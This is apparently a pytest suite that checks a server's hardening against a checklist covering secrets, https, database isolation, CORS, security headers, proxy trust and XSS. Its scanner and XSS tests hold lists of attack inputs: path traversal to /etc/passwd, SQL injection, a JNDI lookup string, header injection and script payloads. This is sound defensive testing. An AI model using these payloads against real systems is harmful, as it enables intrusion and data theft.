"""How an operator hardens the server, row by row of the checklist of the published claims (H1-H8, A1, X1)."""

import os
import re
import shlex
import shutil
import subprocess
from pathlib import Path

import pytest

from harness.api import Api
from harness.processes import processes_of
from harness.program import run_cued
from harness.raw import RawClient, ask_once
from harness.server import BINARY, HOST, ROOT, Server

GOOD_SECRET = "0f1e2d3c4b5a69788796a5b4c3d2e1f0"
PRODUCTION = {
    "ENV": "production",
    "SESSION_SECRET": GOOD_SECRET,
    "BASE_URL": "https://cue.example",
    "WEBHOOK_ALLOW_LOOPBACK": "false",
}
DOCUMENTATION = ["/docs", "/docs/oauth2-redirect", "/redoc", "/openapi.json"]


@pytest.fixture(scope="module")
def production():
    with Server(**PRODUCTION) as running:
        yield running


def start_that_fails(folder, dotenv=None, **settings):
    """What is said by a server that does not start."""
    if dotenv:
        (folder / ".env").write_text(dotenv)
    ended = run_cued(folder, "serve", "--port", 0, "--data-dir", folder / "data", **settings)
    assert ended.returncode != 0
    return ended.stdout + ended.stderr


# -- H1: the session secret -------------------------------------------------------------


@pytest.mark.parametrize(
    "secret",
    [None, "", "short", GOOD_SECRET[:31], "change-this-to-a-long-random-string", "local-dev-secret-key-change-in-production"],
)
def test_h1_production_does_not_start_with_a_bad_session_secret(tmp_path, secret):
    settings = {} if secret is None else {"SESSION_SECRET": secret}
    words = start_that_fails(tmp_path, ENV="production", **settings)
    assert "SESSION_SECRET" in words
    assert not secret or secret not in words
    assert not (tmp_path / "data").exists(), "it refuses before it makes anything"


def test_h1_it_makes_no_difference_where_the_secret_was_set(tmp_path):
    words = start_that_fails(tmp_path, dotenv="ENV=production\nSESSION_SECRET=short\n")
    assert "SESSION_SECRET" in words


def test_h1_development_makes_a_secret_of_its_own_that_only_it_can_read(server):
    kept = server.data_dir / "session-secret"
    assert kept.stat().st_mode & 0o777 == 0o600
    assert re.fullmatch(r"[0-9a-f]{64}\n", kept.read_text())


# -- H2: production means https ----------------------------------------------------------


def test_h2_production_takes_no_http_receiver(production, server):
    cue = {
        "name": "h2",
        "schedule": {"type": "recurring", "cron": "0 0 1 1 *"},
        "callback": {"url": "http://93.184.216.34/hook"},
    }
    refused = production.register().api.post("/v1/cues", cue)
    assert (refused.status, refused.code) == (400, "invalid_callback_url")
    assert "https" in refused.json()["error"]["message"]
    assert server.register().api.post("/v1/cues", cue).status == 201


# -- H3: the private database -------------------------------------------------------------


def listening_tcp_ports(pids):
    """Of IPv4 and IPv6, by the sockets that these processes hold."""
    inodes = set()
    for pid in pids:
        for descriptor in Path(f"/proc/{pid}/fd").glob("*"):
            try:
                held = re.fullmatch(r"socket:\[(\d+)\]", os.readlink(descriptor))
            except OSError:
                continue
            if held:
                inodes.add(held[1])
    ports = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        for line in Path(table).read_text().splitlines()[1:]:
            words = line.split()
            if words[3] == "0A" and words[9] in inodes:
                ports.add(int(words[1].rpartition(":")[2], 16))
    return ports


def socket_directory(server):
    dsn = (server.data_dir / "database.dsn").read_text()
    return Path(dict(part.split("=", 1) for part in shlex.split(dsn))["host"])


def test_h3_the_private_database_listens_on_no_port(server):
    pids = processes_of(server.folder)
    assert any("postgres" in command for command in pids.values())
    assert listening_tcp_ports(pids) == {server.port}


def test_h3_its_socket_and_its_files_are_for_its_account_only(server):
    directory = socket_directory(server)
    [socket] = [path for path in directory.iterdir() if path.is_socket()]
    assert directory.stat().st_mode & 0o077 == 0 or socket.stat().st_mode & 0o077 == 0
    cluster = next(path.parent for path in server.data_dir.rglob("PG_VERSION") if (path.parent / "global").exists())
    assert cluster.stat().st_mode & 0o077 == 0
    assert socket.stat().st_uid == cluster.stat().st_uid


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can become somebody else")
def test_h3_another_account_of_the_machine_does_not_get_in(server):
    dsn = (server.data_dir / "database.dsn").read_text().strip()
    stranger = 12345
    ended = subprocess.run(
        ["setpriv", f"--reuid={stranger}", f"--regid={stranger}", "--clear-groups", "psql", dsn, "-c", "SELECT 1"],
        capture_output=True,
        text=True,
    )
    assert ended.returncode != 0 and "Permission denied" in ended.stderr


# -- H4: which pages may call the API -----------------------------------------------------

PREFLIGHT = {"Access-Control-Request-Method": "POST", "Access-Control-Request-Headers": "authorization"}


def test_h4_by_default_any_origin_may_read_but_never_with_credentials(server):
    for method, headers in (("GET", {}), ("OPTIONS", PREFLIGHT)):
        answer = server.api().request(method, "/v1/cues", headers={"Origin": "https://evil.example", **headers})
        assert answer.headers["Access-Control-Allow-Origin"] == "*"
        assert "Access-Control-Allow-Credentials" not in answer.headers


def test_h4_only_the_configured_origins_may_read():
    with Server(CORS_ORIGINS="https://app.example, https://other.example:8443") as server:
        for origin in ("https://app.example", "https://other.example:8443"):
            for method, headers in (("GET", {}), ("OPTIONS", PREFLIGHT)):
                answer = server.api().request(method, "/v1/cues", headers={"Origin": origin, **headers})
                assert answer.headers["Access-Control-Allow-Origin"] == origin
                assert "Origin" in answer.headers["Vary"]
        for origin in ("https://evil.example", "http://app.example", "https://app.example.evil.example", "null"):
            for method, headers in (("GET", {}), ("OPTIONS", PREFLIGHT)):
                answer = server.api().request(method, "/v1/cues", headers={"Origin": origin, **headers})
                assert "Access-Control-Allow-Origin" not in answer.headers


# -- H5: no documentation pages in production ----------------------------------------------


def test_h5_documentation_is_off_in_production(production, server):
    for path in DOCUMENTATION:
        assert (production.api().get(path).status, production.api().get(path).code) == (404, "http_error")
    for path in DOCUMENTATION:
        assert server.api().get(path).status == 200


def test_h5_also_when_production_is_only_said_in_dotenv():
    server = Server(WEBHOOK_ALLOW_LOOPBACK="false")
    (server.folder / ".env").write_text("".join(f"{name}={value}\n" for name, value in PRODUCTION.items()))
    with server:
        assert [server.api().get(path).status for path in DOCUMENTATION] == [404] * 4


# -- H6: what browsers are told -------------------------------------------------------------


def answers_of_every_kind(server):
    user = server.register()
    api, nobody = user.api, server.api()
    cue = api.create_cue("h6", {"type": "recurring", "cron": "0 0 1 1 *"})
    yield 200, api.get("/v1/auth/me")
    yield 201, api.post("/v1/cues", {"name": "h6 b", "schedule": {"type": "recurring", "cron": "0 0 1 1 *"},
                                     "transport": "worker"})  # fmt: skip
    yield 200, nobody.get("/health")
    yield 200, nobody.get("/metrics")
    yield 204, api.delete(f"/v1/cues/{cue['id']}")
    yield 307, api.get("/v1/cues/")
    yield 400, api.post("/v1/cues", b"{")
    yield 401, nobody.get("/v1/cues")
    yield 404, nobody.get("/nowhere")
    yield 405, nobody.delete("/health")
    yield 422, api.post("/v1/cues", {})
    yield 413, api.request("POST", "/v1/cues", body=b"", headers={"Content-Length": "2000000"})
    yield 200, nobody.request("OPTIONS", "/v1/cues", headers={"Origin": "https://a.example", **PREFLIGHT})
    yield 200, nobody.get("/auth/device?code=ABCD-EFGH")
    yield 400, nobody.get("/v1/auth/verify?token=none&device_code=none-none")


@pytest.mark.parametrize("in_production", [False, True])
def test_h6_every_answer_carries_the_security_headers(request, in_production):
    server = request.getfixturevalue("production" if in_production else "server")
    for status, answer in answers_of_every_kind(server):
        assert answer.status == status, answer.body
        headers = answer.headers
        assert headers["X-Content-Type-Options"] == "nosniff"
        assert headers["Referrer-Policy"] == "no-referrer"
        assert headers["Cache-Control"] == "no-store"
        assert ("Strict-Transport-Security" in headers) == in_production
        if headers.get("Content-Type", "").startswith("text/html"):
            assert headers["X-Frame-Options"] == "DENY"
            policy = headers["Content-Security-Policy"]
            assert "default-src 'none'" in policy and "frame-ancestors 'none'" in policy
            assert "unsafe-inline" not in policy.replace("style-src 'unsafe-inline'", "")


def test_h6_what_the_server_itself_refuses_carries_them_too(server):
    too_long = ask_once(server.port, b"GET /health HTTP/1.1\r\nX: " + b"a" * 70_000 + b"\r\n\r\n")
    assert too_long.status == 431
    assert too_long.headers["x-content-type-options"] == "nosniff"
    assert too_long.headers["cache-control"] == "no-store"


# -- H7: dependencies --------------------------------------------------------------------------


def packages_of(section):
    """As tools/setup.sh reads tools/packages.debian."""
    inside, found = False, []
    for line in (ROOT / "tools/packages.debian").read_text().splitlines():
        if line.startswith("["):
            inside = line.strip() == f"[{section}]"
        elif inside and (name := line.partition("#")[0].strip()):
            found.append(name)
    return found


def test_h7_the_documented_dependencies_are_the_real_ones():
    page = (ROOT / "docs/hardening.md").read_text()
    documented = re.search(r"```packages\n(.*?)```", page, re.DOTALL)[1].split()
    assert documented == packages_of("build and run")


def test_h7_whatever_the_binary_loads_belongs_to_a_debian_package():
    dpkg = shutil.which("dpkg-query")
    if dpkg is None:  # built on another distribution: its libraries are its own business
        pytest.skip("no dpkg here")
    loaded = subprocess.run(["ldd", str(BINARY)], capture_output=True, text=True, check=True).stdout
    files = [Path(path) for path in re.findall(r"=> (/\S+)", loaded)]
    assert files
    for file in files:
        # Files are listed below /usr, or below / where /lib is a link.
        names = {str(file), str(file.resolve()), str(file.resolve()).removeprefix("/usr")}
        owners = [subprocess.run([dpkg, "--search", name], capture_output=True).returncode for name in names]
        assert 0 in owners, f"{file} belongs to no package"


# -- H8: behind a proxy ---------------------------------------------------------------------------


def remaining(server, source, forwarded_for):
    request = f"GET /v1/nothing HTTP/1.1\r\nX-Forwarded-For: {forwarded_for}\r\n\r\n".encode()
    return int(ask_once(server.port, request, source=source).headers["x-ratelimit-remaining"])


def test_h8_only_trusted_proxies_choose_the_bucket():
    with Server(FORWARDED_ALLOW_IPS="127.0.0.2, 127.0.1.0/24") as server:
        assert remaining(server, "127.0.0.2", "203.0.113.1") == 59
        assert remaining(server, "127.0.0.2", "203.0.113.1") == 58
        assert remaining(server, "127.0.1.77", "203.0.113.1") == 57, "the network is trusted like the address"
        assert remaining(server, "127.0.0.2", "203.0.113.2") == 59
        # What a client writes in front of what the proxy adds changes nothing.
        assert remaining(server, "127.0.0.2", "6.6.6.6, 203.0.113.2") == 58
        # Not a proxy: whatever it says, it is itself.
        assert remaining(server, "127.0.0.3", "203.0.113.1") == 59
        assert remaining(server, "127.0.0.3", "203.0.113.9") == 58
        assert remaining(server, "127.0.0.1", "203.0.113.9") == 59, "the default is replaced, not added to"


def test_h8_a_star_trusts_everybody():
    with Server(FORWARDED_ALLOW_IPS="*") as server:
        assert remaining(server, "127.0.0.3", "203.0.113.1") == 59
        assert remaining(server, "127.0.0.4", "203.0.113.1") == 58


# -- A1: a scanner ----------------------------------------------------------------------------------

NASTY_PATHS = [
    "/..%2f..%2f..%2fetc/passwd", "/../../etc/passwd", "/%00", "/v1/cues/%00", "/v1/cues/%ff%fe", "/v1/cues/..;/",
    "/v1/cues/' OR 1=1--", "/v1/executions/1;DROP TABLE users", "//v1/cues", "/v1//cues", "/.git/config", "/.env",
    "/admin", "/wp-login.php", "/v1/cues?limit=-1", "/v1/cues?limit=99999999999999999999", "/v1/cues?status=%00",
    "/v1/executions?cue_id=%27%3B--", "/v1/executions/claimable?limit=1e309", "/auth/device", "/auth/device?code=%00",
    "/v1/auth/verify?token=%00&device_code=%00", "/v1/workers/%2e%2e%2f", "/v1/echo/%0d%0aSet-Cookie:a=b", "/%",
    "/%zz", "*", "http://evil.example/v1/cues", "/v1/cues/{{7*7}}", "/v1/cues/${jndi:ldap://evil.example/a}",
]  # fmt: skip
NASTY_BODIES = [
    b"", b"{", b"null", b"[]", b'"text"', b"[" * 5000, b'{"a":' * 2000, b"\x00", b"\xff\xfe", b'{"name":"\\u0000"}',
    b'{"name":"\\ud800"}', b'{"email":1e999}', b'{"email":NaN}', b'{"a":1,"a":2}', b"1" * 5000, b'{"__proto__":{}}',
    b'{"email":"a@b.com\\r\\nBcc: c@d.com"}', b'{"name":{"$ne":null}}', b"<?xml version='1.0'?><!DOCTYPE a><a/>",
]  # fmt: skip
NASTY_HEADERS = [
    b"Authorization: Bearer", b"Authorization: Bearer \xff\xfe", b"Authorization: Basic Og==", b"Authorization: ",
    b"Authorization: Bearer cue_sk_' OR '1'='1", b"Authorization: Bearer eyJhbGciOiJub25lIn0.e30.", b"Cookie: a=b",
    b"Authorization: Bearer " + b"a" * 10_000, b"X-Forwarded-For: " + b"1.2.3.4," * 1000, b"Expect: 100-continue",
    b"X-Forwarded-For: ' OR 1=1", b"Content-Type: multipart/form-data", b"Content-Encoding: gzip", b"Upgrade: h2c",
    b"Connection: Upgrade, HTTP2-Settings", b"Range: bytes=0-18446744073709551615", b"X-Http-Method-Override: DELETE",
    b"Transfer-Encoding: gzip, chunked", b"Host: evil.example", b"Origin: null", b"Accept: " + b"*/*," * 5000,
]  # fmt: skip
METHODS = ["GET", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "HEAD", "TRACE", "CONNECT", "PROPFIND", "BREW"]


def nasty_requests(server):
    number = 0
    def head(method, path):
        nonlocal number
        number += 1  # each from an address of its own, so that the rate limit does not answer for the rest
        return f"{method} {path} HTTP/1.1\r\nX-Forwarded-For: 100.64.{number // 250}.{number % 250}\r\n".encode("latin-1")  # fmt: skip
    key = f"Authorization: Bearer {server.register().key}\r\n".encode()
    documented = Api(HOST, server.port).get("/openapi.json").expect(200)["paths"]
    for path, operations in documented.items():
        for method in operations:
            target = re.sub(r"\{[^}]*\}", "%27%00x", path)
            for body in NASTY_BODIES[:12]:
                yield head(method.upper(), target) + key + b"Content-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(body) + body  # fmt: skip
    for path in NASTY_PATHS:
        for method in ("GET", "POST"):
            yield head(method, path) + key + b"\r\n"
    for method in METHODS:
        yield head(method, "/v1/cues") + key + b"\r\n"
    for body in NASTY_BODIES:
        for path in ("/v1/auth/register", "/v1/cues", "/v1/auth/session", "/v1/auth/device-code"):
            yield head("POST", path) + key + b"Content-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(body) + body  # fmt: skip
    for header in NASTY_HEADERS:
        for path in ("/v1/cues", "/v1/auth/me", "/health"):
            yield head("GET", path) + header + b"\r\n\r\n"
    for garbage in (b"\x16\x03\x01\x00\xa5\x01", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", b"SSH-2.0-scan\r\n", b"\r\n" * 50,
                    b"GET / HTTP/0.9\r\n\r\n", b"GET  /  HTTP/1.1\r\n\r\n", b"GET /\r\n\r\n", b"EHLO a\r\n\r\n",
                    b"*1\r\n$4\r\nPING\r\n\r\n", bytes(range(256)) + b"\r\n\r\n"):  # fmt: skip
        yield garbage


def test_a1_a_scanner_finds_no_fault_and_no_crash(server):
    asked = 0
    for request in nasty_requests(server):
        asked += 1
        with RawClient(server.port) as client:
            client.send(request)
            client.socket.shutdown(1)  # nothing more comes; so a request that is not whole comes to its end
            answer = client.answer()
        if answer is None:
            continue  # not whole, and nobody left to answer to
        assert answer.status < 500, f"{request[:300]!r}: {answer.status} {answer.body!r}"
        assert "set-cookie" not in answer.headers and b"root:" not in answer.body
        assert b"SQLSTATE" not in answer.body and b"pqxx" not in answer.body and b"syntax error" not in answer.body
    assert asked > 500
    assert server.process.poll() is None
    assert server.api().get("/health").json()["services"]["postgres"] == "ok"


# -- X1: the page of the device login ------------------------------------------------------------------


@pytest.mark.parametrize(
    "code",
    [
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
        "%27%3Balert(1)//",
        "AAAA%3C/code%3E%3Csvg/onload=alert(1)%3E",
        "%3C%2Fscript%3E%3Cscript%3Ealert(1)",
        "javascript:alert(1)",
        "%E2%80%A8alert(1)",
    ],
)
def test_x1_nothing_in_the_code_becomes_markup(server, code):
    for path in (f"/auth/device?code={code}", f"/v1/auth/verify?token={code}&device_code={code}"):
        answer = server.api().get(path)
        page = answer.body.decode()
        assert answer.status in (200, 400)
        assert "alert(1)" not in page and "<svg" not in page
        assert "default-src 'none'" in answer.headers["Content-Security-Policy"]


def test_x1_scripts_of_the_page_run_only_with_a_nonce_of_this_answer(server):
    nonces = set()
    for _ in range(2):
        answer = server.api().get("/auth/device?code=ABCD-EFGH")
        assert answer.status == 200 and b"ABCD-EFGH" in answer.body
        [nonce] = re.findall(r"script-src 'nonce-([0-9A-Za-z+/=]+)'", answer.headers["Content-Security-Policy"])
        assert re.findall(r"<script([^>]*)>", answer.body.decode()) == [f' nonce="{nonce}"']
        assert not re.search(r"\son[a-z]+=", answer.body.decode())
        nonces.add(nonce)
    assert len(nonces) == 2
